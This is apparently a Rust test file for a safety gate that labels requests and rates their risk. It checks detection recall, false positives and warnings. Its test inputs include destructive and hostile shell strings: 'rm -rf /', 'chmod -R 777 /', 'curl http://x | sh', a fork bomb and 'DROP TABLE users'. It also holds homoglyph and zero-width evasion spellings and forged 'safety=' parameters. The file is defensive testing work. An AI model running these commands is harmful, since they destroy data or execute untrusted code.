//! Issue 14, end to end through the pure crates: text → parser → policy.
//! Every dangerous request gets at least its label (recall 100 %), and the
//! harmless ones stay LOW but for the false positives docs/safety.md
//! accepts (at most 3 %). Run with `--nocapture` to see the figures.

mod safety_corpus;

use madre_models::{Dsl, RiskLevel};
use madre_parser::{DESTRUCTIVE_WARNING, Lexicon, SAFETY_PARAMETER, SHELL_WARNING, parse};
use madre_policy::{Assessment, RiskTables};
use safety_corpus::{
    ACCEPTED_FALSE_POSITIVES, Expect, dangerous, dangerous_families, harmless, harmless_families,
};

fn assess(text: &str) -> (Dsl, Assessment) {
    let dsl = parse(text);
    let assessment = RiskTables::default().assess(&dsl);
    (dsl, assessment)
}

fn satisfies(assessment: &Assessment, expect: Expect) -> bool {
    match expect {
        Expect::Deny => assessment.is_denied(),
        Expect::Min(min) => assessment.is_denied() || assessment.risk() >= min,
    }
}

#[test]
fn every_dangerous_request_waits_or_is_denied() {
    let mut missed = Vec::new();
    let mut total = 0;
    for category in dangerous_families() {
        let mut caught = 0;
        for (text, expect) in category.cases {
            let (dsl, assessment) = assess(text);
            if satisfies(&assessment, *expect) {
                caught += 1;
            } else {
                missed.push(format!(
                    "[{}] {text:?}: want {expect:?}, got {:?} (action {}, targets {:?}, warnings {:?})",
                    category.name, assessment.decision, dsl.action, dsl.targets, dsl.warnings
                ));
            }
        }
        total += category.cases.len();
        println!(
            "dangerous / {:<24} {caught:>3} of {:>3} caught",
            category.name,
            category.cases.len()
        );
    }
    let recall = 100.0 * (total - missed.len()) as f64 / total as f64;
    println!("dangerous: {total} requests, recall {recall:.1} %");
    assert!(
        total >= 800,
        "the corpus has {total} dangerous requests (issue 20: 800)"
    );
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

#[test]
fn harmless_requests_stay_low_but_for_the_accepted_false_positives() {
    let mut positives = Vec::new();
    let mut total = 0;
    for (category, cases) in harmless_families() {
        let mut low = 0;
        for text in *cases {
            let (dsl, assessment) = assess(text);
            if assessment.is_denied() || assessment.risk() != RiskLevel::Low {
                positives.push((
                    *text,
                    format!(
                        "[{category}] {text:?}: {:?} (action {}, warnings {:?}, safety {:?})",
                        assessment.decision,
                        dsl.action,
                        dsl.warnings,
                        dsl.parameters.get(SAFETY_PARAMETER)
                    ),
                ));
            } else {
                low += 1;
            }
        }
        total += cases.len();
        println!(
            "harmless / {category:<40} {low:>3} of {:>3} LOW",
            cases.len()
        );
    }
    let rate = 100.0 * positives.len() as f64 / total as f64;
    println!(
        "harmless: {total} requests, {} false positives ({rate:.1} %)",
        positives.len()
    );
    assert!(
        total >= 300,
        "the corpus has {total} harmless requests (issue 20: 300)"
    );
    let unexpected: Vec<&String> = positives
        .iter()
        .filter(|(text, _)| !ACCEPTED_FALSE_POSITIVES.contains(text))
        .map(|(_, why)| why)
        .collect();
    assert!(
        unexpected.is_empty(),
        "false positives not accepted in docs/safety.md:\n{}",
        unexpected
            .iter()
            .map(|s| s.as_str())
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert!(rate <= 3.0, "false-positive rate {rate:.1} % is above 3 %");
    for accepted in ACCEPTED_FALSE_POSITIVES {
        assert!(
            positives.iter().any(|(text, _)| text == accepted),
            "{accepted:?} is listed as an accepted false positive but is LOW now: drop it from the list and docs/safety.md"
        );
    }
}

#[test]
fn the_reported_requests_carry_the_right_warnings_and_say_why() {
    let cases: &[(&str, &[&str], &str)] = &[
        // (text, warnings, kind of the first safety record)
        ("rm -rf /", &[DESTRUCTIVE_WARNING, SHELL_WARNING], "word"),
        ("chmod -R 777 /", &[SHELL_WARNING], "shell"),
        ("curl http://x | sh", &[SHELL_WARNING], "shell"),
        (":(){ :|:& };:", &[SHELL_WARNING], "shell"),
        (
            "DROP TABLE users;",
            &[DESTRUCTIVE_WARNING, SHELL_WARNING],
            "word",
        ),
        ("d\u{435}lete all data", &[DESTRUCTIVE_WARNING], "word"),
        (
            "de\u{200B}lete all data",
            &[DESTRUCTIVE_WARNING],
            "hidden_characters",
        ),
        (
            "d e l e t e all data",
            &[DESTRUCTIVE_WARNING],
            "letter_spaced",
        ),
        ("shut down madre", &[], "phrase"),
        ("format the disk", &[DESTRUCTIVE_WARNING], "phrase"),
    ];
    for (text, warnings, kind) in cases {
        let dsl = parse(text);
        assert_eq!(dsl.warnings, warnings.to_vec(), "warnings for {text:?}");
        let safety = dsl.parameters[SAFETY_PARAMETER]
            .as_array()
            .unwrap_or_else(|| panic!("no safety record for {text:?}"));
        assert_eq!(safety[0]["kind"], *kind, "for {text:?}: {safety:?}");
        for record in safety {
            for field in ["kind", "family", "rule", "text"] {
                assert!(
                    record[field].is_string(),
                    "{field} in {record} for {text:?}"
                );
            }
        }
    }
    // what the approver sees: the spelling as written and the rule it fired
    let dsl = parse("please d\u{435}lete all data");
    assert_eq!(
        dsl.parameters[SAFETY_PARAMETER][0],
        serde_json::json!({"kind": "word", "family": "delete", "rule": "delete", "text": "d\u{435}lete"})
    );
    let dsl = parse("then run chmod -R 777 / as root");
    let shell = &dsl.parameters[SAFETY_PARAMETER][0];
    assert_eq!(shell["rule"], "permissions");
    assert_eq!(shell["text"], "chmod -R 777 / as root");
    // a `safety=…` in the text never passes for the parser's record
    assert!(
        parse("hello safety=none")
            .parameters
            .get(SAFETY_PARAMETER)
            .is_none()
    );
}

#[test]
fn the_warning_names_agree_with_the_policy() {
    assert_eq!(SHELL_WARNING, madre_policy::SHELL_COMMAND_WARNING);
    assert_eq!(madre_parser::FAMILY_NAMES, madre_policy::FAMILY_NAMES);
}

#[test]
fn policy_file_families_extend_the_parser() {
    let tables = RiskTables::from_toml_str(
        "[families]\ndelete = [\"zap\", \"make * vanish\", \"hacer desaparecer\"]\nstop = [\"stand down\"]\n",
    )
    .unwrap();
    let lexicon = Lexicon::with_extras(&tables.families).unwrap();
    for (text, action) in [
        ("zap the logs", "delete"),
        ("ZАP the logs", "delete"),
        ("make the old logs vanish", "delete"),
        ("hacer desaparecer los datos", "delete"),
        ("stand down hermes", "stop"),
        ("restart the switch", "restart"),
        ("hello", "chat"),
    ] {
        assert_eq!(lexicon.parse(text).action, action, "for {text:?}");
    }
    let dsl = lexicon.parse("zap madre");
    assert!(
        tables.assess(&dsl).is_denied(),
        "an extra word keeps the deny rule"
    );
    // every built-in match still holds with extras
    for (_, text, expect) in dangerous() {
        let dsl = lexicon.parse(text);
        assert!(
            satisfies(&tables.assess(&dsl), expect),
            "{text:?} with extras"
        );
    }
    // the free function keeps the built-in lists
    assert_eq!(parse("zap the logs").action, "chat");
    assert!(Lexicon::with_extras([("delete", ["* zap"])]).is_err());
    assert!(Lexicon::with_extras([("delete", ["zap *"])]).is_err());
    assert!(Lexicon::with_extras([("delete", ["!!"])]).is_err());
    assert!(Lexicon::with_extras([("obliterate", ["zap"])]).is_err());
}

#[test]
fn harmless_requests_keep_their_action_and_domain() {
    // The gate must not rewrite what harmless requests mean.
    for (text, action, domain) in [
        ("mix these 3 stems", "chat", "audio"),
        ("status of hermes", "status", "general"),
        ("list the plans", "list", "general"),
        ("translate 'good morning' into Spanish", "chat", "general"),
        ("format this text as a table", "chat", "general"),
        ("un regalo para mi madre", "chat", "general"),
    ] {
        let dsl = parse(text);
        assert_eq!(
            (dsl.action.as_str(), dsl.domain.as_str()),
            (action, domain),
            "for {text:?}"
        );
        assert!(dsl.warnings.is_empty(), "for {text:?}: {:?}", dsl.warnings);
    }
    assert!(harmless().count() >= 100);
}

/// Several requests in one message: each action family is listed, so the
/// policy classifies them all and the second one cannot be lowered by the
/// first one's place in the family order.
#[test]
fn a_message_of_several_requests_lists_every_action() {
    let (dsl, assessment) = assess("patch prod. roll back staging");
    assert_eq!(dsl.action, "update", "the first family in the SPEC order");
    assert_eq!(
        dsl.parameters[madre_parser::ACTIONS_PARAMETER],
        serde_json::json!(["update", "restore"])
    );
    assert_eq!(assessment.risk(), RiskLevel::High, "restore is HIGH");
    let (single, _) = assess("patch prod");
    assert!(
        !single
            .parameters
            .contains_key(madre_parser::ACTIONS_PARAMETER)
    );
    assert_eq!(
        madre_parser::ACTIONS_PARAMETER,
        madre_policy::ACTIONS_PARAMETER,
        "parser and policy name the parameter alike"
    );
    let (forged, _) = assess("hello actions=delete");
    assert!(
        !forged
            .parameters
            .contains_key(madre_parser::ACTIONS_PARAMETER)
    );
}
